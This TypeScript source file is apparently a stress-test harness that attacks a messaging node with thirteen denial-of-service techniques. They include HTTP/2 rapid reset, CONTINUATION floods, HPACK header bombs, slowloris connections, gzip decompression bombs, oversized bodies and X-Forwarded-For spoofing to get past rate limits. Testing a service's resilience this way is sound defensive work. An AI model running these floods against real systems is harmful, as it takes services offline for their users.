// Ways to keep a node from its work. Each goes on until its time is over and resolves to the answers that it
// had, each with how often.

import { randomBytes } from 'node:crypto'
import { setImmediate as nextTurn } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { PublishRequest, QueryRequest } from '@posthorn/wire'
import { queryOf } from './api-client.ts'
import { frameOf } from './frames.ts'
import {
  callHeaders,
  endHeaders,
  frameType,
  longField,
  malformedHeaders,
  opening,
  rawFrame,
} from './raw-http2.ts'
import {
  callGrpc,
  isOn,
  type Post,
  post,
  sessionTo,
  sleep,
  socketsTo,
  socketTo,
  type Target,
} from './target.ts'

/** Answers, each with how often it came. */
export type Answers = Record<string, number>

type Attack = (target: Target) => Promise<Answers>

const mib = 1_048_576
const nothing = Buffer.alloc(0)
const reset = (stream: number): Buffer =>
  rawFrame({ type: frameType.resetStream, stream, payload: Buffer.from([0, 0, 0, 8]) })

/** Requests, byte by byte, on two thousand connections: heads, bodies, and HTTP/2 that says no more. */
const slowRequests: Attack = async (target) => {
  const sockets = await socketsTo(target, 2_000)
  const starts = [
    'POST /message/v1/query HTTP/1.1\r\nhost: a\r\n',
    'POST /message/v1/query HTTP/1.1\r\nhost: a\r\ncontent-length: 1000000\r\n\r\n',
    opening,
  ]
  for (const [n, socket] of sockets.entries()) socket.write(starts[n % starts.length] ?? '')
  while (isOn(target)) {
    for (const [n, socket] of sockets.entries()) {
      if (!socket.destroyed && n % starts.length < 2) socket.write('x')
    }
    await sleep(500)
  }
  for (const socket of sockets) socket.destroy()
  return {}
}

// Fifty connections that say the same again and again, each on a new one when it is closed.
async function floodAnew(target: Target, flood: Buffer): Promise<Answers> {
  const answers: Answers = { connections: 0 }
  const one = async (): Promise<void> => {
    while (isOn(target)) {
      await new Promise((resolve) => {
        const socket = socketTo(target).on('close', resolve)
        socket.on('connect', () => {
          count(answers, 'connections')
          socket.write(flood)
          setTimeout(() => socket.destroy(), 50)
        })
      })
    }
  }
  await Promise.all(Array.from({ length: 50 }, one))
  return answers
}

// Few enough for a connection never to be closed on its own account.
const streamsOf = (streamOf: (id: number) => Buffer[], streams = 900): Buffer =>
  Buffer.concat([opening, ...Array.from({ length: streams }, (_, n) => streamOf(2 * n + 1)).flat()])

/** Calls that are opened and reset as fast as they go, over and over again on new connections. */
const rapidReset: Attack = (target) => {
  const payload = callHeaders('Query')
  const open = (stream: number) =>
    rawFrame({ type: frameType.headers, flags: endHeaders, stream, payload })
  return floodAnew(
    target,
    streamsOf((stream) => [open(stream), reset(stream)]),
  )
}

/** Calls that the node has to reset itself. */
const malformedCalls: Attack = (target) => {
  const payload = malformedHeaders('Query')
  const open = (stream: number) =>
    rawFrame({ type: frameType.headers, flags: endHeaders, stream, payload })
  return floodAnew(
    target,
    streamsOf((stream) => [open(stream)], 5_000),
  )
}

/** Headers that go on and on in CONTINUATION frames. */
const continuationFlood: Attack = async (target) => {
  const payload = longField(8_000, false)
  const start = Buffer.concat([opening, rawFrame({ type: frameType.headers, stream: 1, payload })])
  const more = rawFrame({ type: frameType.continuation, stream: 1, payload })
  const answers: Answers = { connections: 0, frames: 0 }
  const one = async (): Promise<void> => {
    while (isOn(target)) {
      const socket = socketTo(target)
      socket.write(start)
      count(answers, 'connections')
      while (isOn(target) && !socket.destroyed) {
        socket.write(more)
        count(answers, 'frames')
        await sleep(1)
      }
      socket.destroy()
    }
  }
  await Promise.all(Array.from({ length: 20 }, one))
  return answers
}

/** A long field, said once and referred to ten thousand times by one byte each, as fast as the node reads. */
const headerBombs: Attack = async (target) => {
  const references = Buffer.alloc(10_000, 0x80 | 62)
  const bomb = (stream: number): Buffer => {
    const block = [
      callHeaders('Query'),
      stream === 1 ? longField(3_000, true) : nothing,
      references,
    ]
    const payload = Buffer.concat(block)
    return rawFrame({ type: frameType.headers, flags: endHeaders, stream, payload })
  }
  const answers: Answers = { connections: 0, bombs: 0 }
  const one = async (): Promise<void> => {
    while (isOn(target)) {
      const socket = socketTo(target)
      socket.write(opening)
      count(answers, 'connections')
      for (let stream = 1; isOn(target) && !socket.destroyed; stream += 2) {
        while (socket.writableNeedDrain && isOn(target) && !socket.destroyed) await sleep(1)
        socket.write(bomb(stream))
        count(answers, 'bombs')
        await nextTurn()
      }
      socket.destroy()
    }
  }
  await Promise.all(Array.from({ length: 50 }, one))
  return answers
}

/** Requests in gzip that would grow to a thousand times their length. */
const gzipBombs: Attack = (target) =>
  repeat(target, {
    json: [gzipQuery(Buffer.alloc(1_024 * mib)), gzipQuery(Buffer.alloc(60 * mib, '['))],
    grpc: [gzipCall(Buffer.alloc(48 * mib, Buffer.from([10, 0])))],
  })

/** Requests in gzip that grow to 48 MiB, by as much as is allowed everywhere. */
const gzipBodies: Attack = (target) => {
  const piece = (): string => randomBytes(750).toString('base64') + 'a'.repeat(6_000)
  const contentTopics = [Array.from({ length: 7_000 }, piece).join('')]
  return repeat(target, {
    json: [gzipQuery(Buffer.from(JSON.stringify({ contentTopics })))],
    grpc: [gzipCall(Buffer.from(QueryRequest.encode(queryOf({ contentTopics })).finish()))],
  })
}

function gzipQuery(body: Buffer): Post {
  return {
    path: '/message/v1/query',
    body: gzipSync(body),
    headers: { 'content-encoding': 'gzip' },
  }
}

function gzipCall(message: Buffer): Post {
  const body = frameOf(gzipSync(message), 1)
  return { path: 'Query', body, headers: { 'grpc-encoding': 'gzip' } }
}

/** Requests of fifty megabytes that are all brackets, empty topics, or empty envelopes. */
const manyValues: Attack = (target) => {
  const empty = frameOf(Buffer.alloc(48 * mib, Buffer.from([10, 0])))
  const json = { path: '/message/v1/query', body: Buffer.alloc(48 * mib, '[') }
  return repeat(target, {
    json: [json],
    grpc: [
      { path: 'Publish', body: empty },
      { path: 'Query', body: empty },
    ],
  })
}

/** Requests of fifty megabytes that are one value each. */
const largeBodies: Attack = (target) => {
  const contentTopics = ['a'.repeat(48 * mib)]
  const request = frameOf(QueryRequest.encode(queryOf({ contentTopics })).finish())
  const body = JSON.stringify({ contentTopics })
  return repeat(target, {
    json: [{ path: '/message/v1/query', body }],
    grpc: ['Query', 'Publish'].map((path) => ({ path, body: request })),
  })
}

/** More envelopes in one publish than a limit of 16 bits can count. */
const manyEnvelopes: Attack = (target) => {
  const envelope = { contentTopic: 'a', timestampNs: 1n, message: new Uint8Array(1) }
  const request = PublishRequest.encode({ envelopes: new Array(65_536).fill(envelope) })
  const body = `{"envelopes":[${new Array(65_536).fill('{"contentTopic":"a","message":"YQ=="}')}]}`
  return repeat(target, {
    json: [{ path: '/message/v1/publish', body }],
    grpc: [{ path: 'Publish', body: frameOf(request.finish()) }],
  })
}

/** Queries and streams for a million topics. */
const manyTopics: Attack = (target) => {
  const contentTopics = Array.from({ length: 1_000_000 }, (_, n) => `/xmtp/0/m-${n}/proto`)
  const request = frameOf(QueryRequest.encode(queryOf({ contentTopics })).finish())
  const body = JSON.stringify({ contentTopics })
  return repeat(target, {
    json: [
      { path: '/message/v1/query', body },
      { path: '/message/v1/subscribe', body },
    ],
    grpc: ['Query', 'Subscribe', 'Subscribe2'].map((path) => ({ path, body: request })),
  })
}

// A hundred thousand queries, each in the name of another address.
async function inventAddresses(target: Target, behind: string): Promise<Answers> {
  const session = sessionTo(target)
  const answers: Answers = {}
  const body = frameOf(QueryRequest.encode(queryOf({ contentTopics: ['a'] })).finish())
  let next = 0
  const one = async (): Promise<void> => {
    while (next < 100_000) {
      const n = next++
      const invented = `10.${n >> 16}.${(n >> 8) & 255}.${n & 255}`
      const headers = { 'x-forwarded-for': invented + behind }
      count(answers, await callGrpc(session, { path: 'Query', body, headers }))
    }
  }
  await Promise.all(Array.from({ length: 100 }, one))
  session.destroy()
  return answers
}

/** Addresses that a client invents. */
const inventedAddresses: Attack = (target) => inventAddresses(target, '')

/** The same through a proxy, which appends the address that it sees. */
const inventedBehindProxy: Attack = (target) => inventAddresses(target, ', 198.51.100.7')

/** The attacks by name. */
export const attacks: Readonly<Record<AttackName, Attack>> = {
  slowRequests,
  rapidReset,
  malformedCalls,
  continuationFlood,
  headerBombs,
  gzipBombs,
  gzipBodies,
  manyValues,
  largeBodies,
  manyEnvelopes,
  manyTopics,
  inventedAddresses,
  inventedBehindProxy,
}

/** Name of an attack. */
export type AttackName =
  | 'slowRequests'
  | 'rapidReset'
  | 'malformedCalls'
  | 'continuationFlood'
  | 'headerBombs'
  | 'gzipBombs'
  | 'gzipBodies'
  | 'manyValues'
  | 'largeBodies'
  | 'manyEnvelopes'
  | 'manyTopics'
  | 'inventedAddresses'
  | 'inventedBehindProxy'

type Posts = { readonly json: readonly Post[]; readonly grpc: readonly Post[] }

// Four at a time.
async function repeat(target: Target, { json, grpc }: Posts): Promise<Answers> {
  const answers: Answers = {}
  const session = sessionTo(target)
  const one = async (): Promise<void> => {
    while (isOn(target)) {
      for (const each of json) count(answers, await post(target, each))
      for (const each of grpc) count(answers, await callGrpc(session, each))
    }
  }
  await Promise.all([one(), one(), one(), one()])
  session.destroy()
  return answers
}

function count(answers: Answers, answer: string): void {
  answers[answer] = (answers[answer] ?? 0) + 1
}
